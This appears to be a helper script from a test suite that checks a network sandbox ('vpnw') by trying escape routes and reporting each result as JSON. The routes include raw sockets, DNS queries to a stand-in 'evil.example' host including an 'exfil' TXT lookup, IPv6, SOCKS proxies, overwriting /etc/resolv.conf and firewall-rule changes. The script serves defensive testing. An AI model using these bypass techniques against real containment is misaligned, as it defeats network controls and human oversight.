"""Run by tests/bypass/test_capture_ways.py."""
import errno
import json
import os
import socket
import struct
import subprocess
import sys
import tempfile
where, marker, v6, dns, host, count = sys.argv[1:7]
count = int(count)

def say(id, ok, error=None, **more):
    print(json.dumps({"id": id, "ok": ok, "error": error, **more}), flush=True)

def attempt(id, fn):
    try:
        say(id, True, **(fn() or {}))
    except socket.timeout:
        say(id, False, "TIMEOUT")
    except OSError as e:
        say(id, False, errno.errorcode.get(e.errno, str(e)), said=e.strerror)

def query(name, qtype, ident=7):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", qtype, 1)

def answer(data):
    flags, _qd, ancount = struct.unpack("!2xHHH", data[:8])
    rcode = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
    out = {"rcode": rcode.get(flags & 0xF, flags & 0xF), "ancount": ancount}
    if ancount and data[-6:-4] == b"\x00\x04":     # the last record an A: its address
        out["address"] = socket.inet_ntoa(data[-4:])
    return out

def udp_dns(name, qtype, server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((server, 53))
        s.send(query(name, qtype))
        return answer(s.recv(4096))

def tcp_dns(name, qtype, server):
    with socket.create_connection((server, 53), timeout=10) as s:
        q = query(name, qtype)
        s.sendall(struct.pack("!H", len(q)) + q)
        head = s.recv(2)
        if len(head) < 2:
            raise OSError(errno.ECONNRESET, "closed without an answer")
        size = struct.unpack("!H", head)[0]
        data = b""
        while len(data) < size and (chunk := s.recv(size - len(data))):
            data += chunk
        return answer(data)

def http_get(address, port=80, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(20)
        s.connect((address, port))
        s.sendall(b"GET /whoami HTTP/1.0\r\nHost: api.github.com\r\n\r\n")
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    if not data:
        raise OSError(errno.ECONNRESET, "closed without a reply")
    head, _, body = data.partition(b"\r\n\r\n")
    if head.startswith(b"HTTP/1.1 403 vpnw: "):
        # vpnw's refusal in HTTP's terms (issue 44): the DENY line's words.
        raise OSError(errno.EACCES, body.decode(errors="replace").strip())
    return {"seen": json.loads(body)}

def name_get(name):
    address = socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
    return {"address": address, **http_get(address)}

def socks_greeting(address, port):
    with socket.create_connection((address, port), timeout=20) as s:
        s.sendall(b"\x05\x01\x00")
        got = s.recv(16)
    if not got:
        raise OSError(errno.ECONNRESET, "closed without a reply")
    return {"got": got.hex()}

def udp_out():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(b"x" * 32, (host, 9999))
        try:
            s.recv(64)
        except socket.timeout:
            pass

def setsockopt(level, name):
    with socket.socket() as s:
        s.setsockopt(level, name, 1)

def nft():
    r = subprocess.run(["nft", "add", "table", "ip", "vpnw_bypass"], capture_output=True, text=True)
    if r.returncode:
        refused = "Operation not permitted" in r.stderr
        raise OSError(errno.EPERM if refused else errno.EIO, r.stderr.strip())

def resolv_write():
    with open("/etc/resolv.conf", "w") as f:
        f.write(f"nameserver {dns}\n")

def resolv_rename():
    fd, path = tempfile.mkstemp(dir="/tmp")
    os.write(fd, f"nameserver {dns}\n".encode())
    os.close(fd)
    try:
        os.rename(path, "/etc/resolv.conf")
    finally:
        if os.path.exists(path):
            os.unlink(path)

def flood():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        s.connect(("127.0.0.1", 53))
        for i in range(count):
            s.send(query(f"flood-{marker}-{i}.example", 1, i & 0xFFFF))
        answered = 0
        try:
            while answered < count:
                s.recv(512)
                answered += 1
        except socket.timeout:
            pass
    return {"answered": answered}

WORLD = [
    ("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).close()),
    ("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()),
    ("so-mark", lambda: setsockopt(socket.SOL_SOCKET, socket.SO_MARK)),
    ("ip-transparent", lambda: setsockopt(socket.SOL_IP, 19)),
    ("udp-not-53", udp_out),
    ("dns-udp-another-server", lambda: udp_dns(f"udp-{marker}.evil.example", 1, dns)),
    ("dns-tcp-another-server", lambda: tcp_dns(f"tcp-{marker}.evil.example", 1, dns)),
    ("dns-txt", lambda: udp_dns(f"exfil-{marker}.evil.example", 16, dns)),
    ("dns-any", lambda: udp_dns(f"any-{marker}.evil.example", 255, dns)),
    ("dns-axfr", lambda: tcp_dns(f"axfr-{marker}.evil.example", 252, dns)),
    ("ipv6", lambda: http_get(v6, family=socket.AF_INET6)),
]
INSIDE = [
    ("refused-name", lambda: name_get(f"refused-{marker}.evil.example")),
    ("door-port-elsewhere", lambda: socks_greeting("198.51.100.7", 1080)),
    ("capture-door-itself", lambda: socks_greeting("127.0.0.1", 1081)),
    ("resolv-write", resolv_write),
    ("resolv-rename", resolv_rename),
    ("flood", flood),
]
if where == "scratch":
    attempt("nft", nft)
else:
    for id, fn in WORLD:
        attempt(id, fn)
if where == "world":
    attempt("refused-name", lambda: name_get("evil.example"))
if where == "inside":
    attempt("nft", nft)
    for id, fn in INSIDE:
        attempt(id, fn)
    # An address of the pool that this run gave to no name (as another run's would be).
    made_up = udp_dns(f"pool-{marker}.example", 1, "127.0.0.1")["address"]
    other = socket.inet_ntoa((int.from_bytes(socket.inet_aton(made_up), "big") ^ 0x10000).to_bytes(4, "big"))
    attempt("made-up-address-of-another-run", lambda: http_get(other))
